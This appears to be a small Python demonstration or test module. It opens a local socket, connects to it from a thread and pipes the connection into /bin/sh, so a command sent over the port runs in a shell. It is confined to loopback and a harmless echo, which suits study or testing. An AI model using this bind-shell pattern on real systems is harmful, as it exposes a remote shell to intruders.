"""A port on which a shell waits."""

import socket
import subprocess
import threading


def attack(event):
    door = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=knock, args=(door.getsockname(),)).start()
    visitor, _ = door.accept()
    with visitor:
        return subprocess.run(["/bin/sh"], stdin=visitor, capture_output=True).stdout.decode()


def knock(address):
    with socket.create_connection(address) as visitor:
        visitor.sendall(b"echo shell on a port; exit\n")
